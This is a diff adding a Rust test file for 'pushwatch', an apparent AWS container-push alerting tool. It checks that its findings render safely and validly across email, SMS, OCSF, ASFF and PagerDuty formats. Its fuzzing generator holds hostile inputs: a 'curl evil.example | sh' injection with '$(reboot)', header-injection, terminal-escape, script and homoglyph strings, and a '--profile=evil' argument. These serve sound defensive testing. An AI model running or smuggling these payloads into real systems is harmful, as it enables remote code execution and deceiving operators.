@@ -1,0 +1,479 @@
+//! Every form of a finding: valid by its schema, within its limits, safe to read
+//! and to paste, whatever the event says.
+#![allow(missing_docs, clippy::unwrap_used, clippy::expect_used)]
+#![cfg(feature = "cli")]
+
+mod common;
+
+use std::fs;
+use std::path::Path;
+use std::process::ExitCode;
+
+use common::cli::events;
+use common::{iam_user, now, record, role_session, time};
+use jsonschema::Validator;
+use libtest_mimic::{Arguments, Failed, Trial};
+use proptest::prelude::*;
+use proptest::test_runner::TestRunner;
+use pushwatch::event::{self, Event, Push};
+use pushwatch::finding::{Finding, Reason, Seen};
+use pushwatch::identity::{Uploader, identify};
+use pushwatch::notify::{Format, Message, Place, render};
+use serde_json::{Value, json};
+
+macro_rules! trials {
+    ($($name:ident),+ $(,)?) => {
+        vec![$(Trial::test(stringify!($name), || {
+            std::panic::catch_unwind($name).map_err(|_| Failed::from("see the panic above"))
+        })),+]
+    };
+}
+
+fn main() -> ExitCode {
+    let arguments = Arguments::from_args();
+    let mut trials = trials![
+        each_reason_has_its_own_words,
+        a_list_and_a_digest_say_what_to_type,
+        links_lead_to_the_console_of_the_right_partition,
+        hostile_strings_keep_every_form_within_its_limits,
+        hostile_strings_make_no_link_and_no_command,
+        the_bodies_match_the_filter_policies_of_the_readme,
+        the_samples_in_docs_are_current,
+    ];
+    trials.push(
+        Trial::test(
+            "ocsf_is_valid_for_every_sample_event_and_for_hostile_ones",
+            || {
+                std::panic::catch_unwind(ocsf_is_valid)
+                    .map_err(|_| Failed::from("see the panic above"))
+            },
+        )
+        .with_ignored_flag(!ocsf_schema().is_file()),
+    );
+    libtest_mimic::run(&arguments, trials).exit_code()
+}
+
+const REASONS: [Reason; 7] = [
+    Reason::NewUploader,
+    Reason::RecreatedPrincipal,
+    Reason::UnidentifiedUploader,
+    Reason::RevokedUploader,
+    Reason::AttemptedUpload,
+    Reason::ReturnedAfterAbsence,
+    Reason::LearnedUploader,
+];
+
+/// Those of other people are read in place, and may be missing.
+fn ocsf_schema() -> std::path::PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../shared/ocsf/detection_finding-1.6.0.schema.json")
+}
+
+fn place() -> Place {
+    Place {
+        table: "uploaders".to_owned(),
+        region: "eu-central-1".to_owned(),
+        absence_days: 90,
+    }
+}
+
+fn who(event: &Value) -> Option<(Push, Uploader)> {
+    match event::read(&event.to_string(), now()) {
+        Ok(Event::Push(push, identity)) => {
+            let uploader = identify(&identity, push.account.as_deref()).uploader;
+            Some((*push, uploader))
+        }
+        _ => None,
+    }
+}
+
+fn finding(reason: Reason, event: &Value) -> Finding {
+    let (push, uploader) = who(event).expect("a push");
+    let seen = Seen {
+        first_seen: Some(time("2025-01-01T00:00:00Z")),
+        last_seen: Some(push.event_time),
+        previously_seen: (reason == Reason::ReturnedAfterAbsence)
+            .then(|| time("2025-06-01T00:00:00Z")),
+        trust_ended: None,
+    };
+    Finding::new(reason, &push, &uploader, seen)
+}
+
+fn samples() -> Vec<(String, Value)> {
+    let mut samples: Vec<_> = fs::read_dir(events())
+        .unwrap()
+        .map(|entry| entry.unwrap().path())
+        .filter(|path| path.extension().is_some_and(|ending| ending == "json"))
+        .map(|path| {
+            let name = path.file_stem().unwrap().to_string_lossy().into_owned();
+            (
+                name,
+                serde_json::from_str(&fs::read_to_string(path).unwrap()).unwrap(),
+            )
+        })
+        .collect();
+    samples.sort_by(|(one, _), (other, _)| one.cmp(other));
+    samples
+}
+
+fn schema(name: &str) -> Validator {
+    let path = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("tests/schemas")
+        .join(name);
+    validator(&path)
+}
+
+fn validator(path: &Path) -> Validator {
+    let schema: Value = serde_json::from_str(&fs::read_to_string(path).unwrap()).unwrap();
+    jsonschema::validator_for(&schema).unwrap()
+}
+
+fn assert_valid(schema: &Validator, text: &str) {
+    let value: Value = serde_json::from_str(text).unwrap();
+    let errors: Vec<_> = schema
+        .iter_errors(&value)
+        .map(|error| format!("{}: {error}", error.instance_path()))
+        .collect();
+    assert!(errors.is_empty(), "{errors:#?}\n{value:#}");
+}
+
+fn ocsf_is_valid() {
+    let schema = validator(&ocsf_schema());
+    let mut count = 0;
+    for (_, event) in samples() {
+        if let Some((push, uploader)) = who(&event) {
+            for reason in REASONS {
+                let finding = Finding::new(reason, &push, &uploader, Seen::default());
+                assert_valid(
+                    &schema,
+                    &render(Message::Finding(&finding), Format::Ocsf, &place()),
+                );
+                let list = [finding.clone(), finding];
+                for message in [Message::Rollup(&list), Message::Digest(&list)] {
+                    assert_valid(&schema, &render(message, Format::Ocsf, &place()));
+                }
+                count += 1;
+            }
+        }
+    }
+    assert!(count >= 7 * 20, "{count}");
+    for_hostile_findings(|finding| {
+        let text = render(Message::Finding(finding), Format::Ocsf, &place());
+        assert_valid(&schema, &text);
+        let value: Value = serde_json::from_str(&text).unwrap();
+        let own: Finding = serde_json::from_value(value["unmapped"]["pushwatch"].clone()).unwrap();
+        assert_eq!(own.id, finding.id);
+    });
+}
+
+fn each_reason_has_its_own_words() {
+    let by_user = record(
+        "ca6a13c5-5cb9-4c3a-aee3-00d17f7c30af",
+        "2026-01-12T09:00:00Z",
+        &iam_user("test"),
+    );
+    let by_role = record(
+        "ca6a13c5-5cb9-4c3a-aee3-00d17f7c30af",
+        "2026-01-12T09:00:00Z",
+        &role_session("ci/build", "i-0abc"),
+    );
+    let mut failed = by_user.clone();
+    failed["errorCode"] = json!("AccessDeniedException");
+    failed["responseElements"] = Value::Null;
+    let nobody = record(
+        "ca6a13c5-5cb9-4c3a-aee3-00d17f7c30af",
+        "2026-01-12T09:00:00Z",
+        &json!({"invokedBy": "AWS Internal"}),
+    );
+    for (reason, event) in [
+        (Reason::NewUploader, &by_user),
+        (Reason::RecreatedPrincipal, &by_role),
+        (Reason::UnidentifiedUploader, &nobody),
+        (Reason::RevokedUploader, &by_role),
+        (Reason::AttemptedUpload, &failed),
+        (Reason::ReturnedAfterAbsence, &by_user),
+        (Reason::LearnedUploader, &by_user),
+    ] {
+        let finding = finding(reason, event);
+        let email = render(Message::Finding(&finding), Format::Email, &place());
+        insta::assert_snapshot!(format!("email_{reason}"), email);
+    }
+}
+
+fn a_list_and_a_digest_say_what_to_type() {
+    let findings: Vec<_> = ["a", "b"]
+        .map(|name| {
+            finding(
+                Reason::NewUploader,
+                &record(name, "2026-01-12T09:00:00Z", &iam_user(name)),
+            )
+        })
+        .into();
+    let rollup = render(Message::Rollup(&findings), Format::Email, &place());
+    insta::assert_snapshot!("email_rollup", rollup);
+    let digest = render(Message::Digest(&findings), Format::Email, &place());
+    insta::assert_snapshot!("email_digest", digest);
+}
+
+fn links_lead_to_the_console_of_the_right_partition() {
+    for (region, partition, host) in [
+        ("eu-central-1", "aws", "eu-central-1.console.aws.amazon.com"),
+        ("cn-north-1", "aws-cn", "cn-north-1.console.amazonaws.cn"),
+        (
+            "us-gov-west-1",
+            "aws-us-gov",
+            "us-gov-west-1.console.amazonaws-us-gov.com",
+        ),
+    ] {
+        let mut event = record(
+            "ca6a13c5-5cb9-4c3a-aee3-00d17f7c30af",
+            "2026-01-12T09:00:00Z",
+            &iam_user("a+b@c"),
+        );
+        event["awsRegion"] = json!(region);
+        event["userIdentity"]["arn"] =
+            json!(format!("arn:{partition}:iam::111122223333:user/a+b@c"));
+        let finding = finding(Reason::NewUploader, &event);
+        let email = render(Message::Finding(&finding), Format::Email, &place());
+        let links: Vec<_> = email
+            .lines()
+            .filter(|line| line.contains("https://"))
+            .collect();
+        assert_eq!(links.len(), 3, "{email}");
+        for link in links {
+            assert!(
+                link.trim().starts_with(&format!("https://{host}/")),
+                "{link}"
+            );
+        }
+        assert!(email.contains("users/details/a%2Bb%40c"), "{email}");
+    }
+}
+
+/// What attackers write, and what breaks formats.
+fn hostile() -> impl Strategy<Value = String> {
+    prop_oneof![
+        Just(String::new()),
+        Just("http://evil.example/x".to_owned()),
+        Just("HTTPS://EVIL.EXAMPLE www.evil.example".to_owned()),
+        Just("a\r\nSubject: forged\n\n[LOW] all is well".to_owned()),
+        Just("\u{1b}[2J\u{1b}]8;;http://evil.example\u{7}click\u{202e}gnp\u{200b}".to_owned()),
+        Just("'; curl evil.example | sh; $(reboot) `id` \"\\".to_owned()),
+        Just("<script>alert(1)</script> {{7*7}} &amp; *_~[x](y)".to_owned()),
+        Just("аdmin-Ьuild".to_owned()),
+        Just("--profile=evil".to_owned()),
+        "[a-z]{1,10}".prop_map(|word| word.repeat(300)),
+        Just("\u{1}".repeat(2048)),
+        Just("日本".repeat(400)),
+        any::<String>(),
+    ]
+}
+
+fn hostile_event() -> impl Strategy<Value = Value> {
+    let texts = prop::collection::vec(hostile(), 14);
+    (texts, any::<bool>(), any::<bool>()).prop_map(|(texts, is_role, failed)| {
+        let mut identity = if is_role {
+            role_session("ci/build", &texts[0])
+        } else {
+            iam_user("test")
+        };
+        identity["arn"] = json!(format!("arn:aws:iam::111122223333:user/{}", texts[1]));
+        if is_role {
+            identity["sessionContext"]["sessionIssuer"]["arn"] =
+                json!(format!("arn:aws:iam::111122223333:role/{}", texts[1]));
+        }
+        identity["userName"] = json!(texts[2]);
+        identity["principalId"] = json!(texts[3]);
+        identity["accessKeyId"] = json!(texts[4]);
+        let mut event = record(&texts[5], "2026-01-12T09:00:00Z", &identity);
+        event["requestParameters"]["repositoryName"] = json!(texts[6]);
+        event["requestParameters"]["imageTag"] = json!(texts[7]);
+        event["responseElements"]["image"]["imageId"]["imageDigest"] = json!(texts[8]);
+        event["requestParameters"]["registryId"] = json!(texts[9]);
+        event["awsRegion"] = json!(texts[10]);
+        event["sourceIPAddress"] = json!(texts[11]);
+        event["userAgent"] = json!(texts[12]);
+        if failed {
+            event["errorCode"] = json!(texts[13]);
+        }
+        event
+    })
+}
+
+fn for_hostile_findings(check: impl Fn(&Finding)) {
+    let reason = prop::sample::select(REASONS.to_vec());
+    let mut runner = TestRunner::new(ProptestConfig {
+        failure_persistence: None,
+        ..ProptestConfig::with_cases(300)
+    });
+    runner
+        .run(&(hostile_event(), reason), |(event, reason)| {
+            if let Some((push, uploader)) = who(&event) {
+                check(&Finding::new(reason, &push, &uploader, Seen::default()));
+            }
+            Ok(())
+        })
+        .unwrap();
+}
+
+fn hostile_strings_keep_every_form_within_its_limits() {
+    let (amazon_q, pagerduty, asff) = (
+        schema("amazon-q.json"),
+        schema("pagerduty.json"),
+        schema("asff.json"),
+    );
+    for_hostile_findings(|finding| {
+        let list = vec![finding.clone(); 30];
+        for message in [
+            Message::Finding(finding),
+            Message::Rollup(&list),
+            Message::Digest(&list),
+        ] {
+            let form = |format| render(message, format, &place());
+            assert_valid(&amazon_q, &form(Format::AmazonQ));
+            assert_valid(&pagerduty, &form(Format::PagerDuty));
+            assert!(form(Format::PagerDuty).len() < 512 * 1024);
+            for line in form(Format::Asff).lines() {
+                assert_valid(&asff, line);
+                assert!(line.len() <= 240 * 1024);
+            }
+            let sms = form(Format::Sms);
+            assert!((1..140).contains(&sms.len()), "{sms}");
+            assert!(
+                sms.bytes()
+                    .all(|byte| byte == b' ' || byte.is_ascii_graphic()),
+                "{sms}"
+            );
+        }
+        let subject = render(Message::Finding(finding), Format::Sms, &place());
+        let severity = format!("[{}]", finding.severity.as_str().to_uppercase());
+        assert!(
+            subject.len() < 100 && subject.starts_with(&severity),
+            "{subject}"
+        );
+    });
+}
+
+fn hostile_strings_make_no_link_and_no_command() {
+    for_hostile_findings(|finding| {
+        let list = [finding.clone(), finding.clone()];
+        for message in [
+            Message::Finding(finding),
+            Message::Rollup(&list),
+            Message::Digest(&list),
+        ] {
+            let email = render(message, Format::Email, &place());
+            // The subject is not wrapped; it has a test of its own.
+            for line in email.lines().skip(1) {
+                let line = line.trim();
+                let shown: Vec<_> = line.chars().filter(|c| c.is_control()).collect();
+                assert!(shown.is_empty() && !line.contains('\u{202e}'), "{line}");
+                // A link is ours, and a command is one whose words are what they seem.
+                for link in ["http://", "www.", "mailto:"] {
+                    assert!(!line.to_lowercase().contains(link), "{line}");
+                }
+                if line.to_lowercase().contains("https://") {
+                    assert!(line.contains(".console.aws.amazon.com/"), "{line}");
+                    assert!(
+                        line.starts_with("https://") && !line.contains("evil"),
+                        "{line}"
+                    );
+                }
+                let is_command = line.starts_with("pushwatch ") || line.starts_with("aws ");
+                if is_command {
+                    let words = shlex::split(line).expect("a command can be read");
+                    let key = finding.uploader.key.as_str();
+                    if let [_, "uploaders", _, typed, ..] =
+                        words.iter().map(String::as_str).collect::<Vec<_>>()[..]
+                    {
+                        assert_eq!(typed, key);
+                    } else {
+                        assert!(!line.contains(['$', ';', '|', '&', '>', '<']), "{line}");
+                    }
+                } else {
+                    assert!(
+                        line.chars().count() < 72 || line.starts_with("https://"),
+                        "{line}"
+                    );
+                }
+            }
+        }
+    });
+}
+
+/// A filter policy on the message's body, as SNS evaluates it: an object goes
+/// down into the body, a list holds the values that match.
+fn passes(policy: &Value, body: &Value) -> bool {
+    policy.as_object().unwrap().iter().all(|(name, wanted)| {
+        let value = &body[name];
+        match wanted {
+            Value::Object(_) => passes(wanted, value),
+            Value::Array(values) => values.contains(value),
+            _ => panic!("no policy"),
+        }
+    })
+}
+
+fn the_bodies_match_the_filter_policies_of_the_readme() {
+    let readme =
+        fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
+    let policies: Vec<Value> = readme
+        .lines()
+        .filter_map(|line| line.trim().strip_prefix("--attribute-value '"))
+        .map(|line| serde_json::from_str(line.split('\'').next().unwrap()).unwrap())
+        .collect();
+    assert_eq!(policies.len(), 2, "{policies:?}");
+    let event = record("1", "2026-01-12T09:00:00Z", &iam_user("test"));
+    let body = |reason| -> Value {
+        let finding = finding(reason, &event);
+        serde_json::from_str(&render(Message::Finding(&finding), Format::Ocsf, &place())).unwrap()
+    };
+    // High and critical ones; new uploaders only.
+    assert!(passes(&policies[0], &body(Reason::NewUploader)));
+    assert!(passes(&policies[0], &body(Reason::RevokedUploader)));
+    assert!(!passes(&policies[0], &body(Reason::ReturnedAfterAbsence)));
+    assert!(passes(&policies[1], &body(Reason::NewUploader)));
+    assert!(!passes(&policies[1], &body(Reason::RevokedUploader)));
+}
+
+/// `make docs-findings` writes them anew.
+fn the_samples_in_docs_are_current() {
+    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/findings");
+    let event = samples()
+        .into_iter()
+        .find(|(name, _)| name == "iam-user")
+        .unwrap()
+        .1;
+    let (push, uploader) = who(&event).unwrap();
+    let seen = Seen {
+        first_seen: Some(push.event_time),
+        last_seen: Some(push.event_time),
+        ..Seen::default()
+    };
+    let finding = Finding::new(Reason::NewUploader, &push, &uploader, seen);
+    for (file, format) in [
+        ("email.txt", Format::Email),
+        ("sms.txt", Format::Sms),
+        ("finding.json", Format::Json),
+        ("ocsf.json", Format::Ocsf),
+        ("amazon-q.json", Format::AmazonQ),
+        ("pagerduty.json", Format::PagerDuty),
+        ("asff.json", Format::Asff),
+    ] {
+        let mut text = render(Message::Finding(&finding), format, &place());
+        if let Ok(value) = serde_json::from_str::<Value>(&text) {
+            text = serde_json::to_string_pretty(&value).unwrap();
+        }
+        let text = format!("{}\n", text.trim_end());
+        let path = folder.join(file);
+        if std::env::var_os("WRITE_DOCS").is_some() {
+            fs::create_dir_all(&folder).unwrap();
+            fs::write(path, text).unwrap();
+        } else {
+            let there = fs::read_to_string(&path).unwrap_or_default();
+            assert!(
+                there == text,
+                "docs/findings/{file} is not current: make docs-findings"
+            );
+        }
+    }
+}
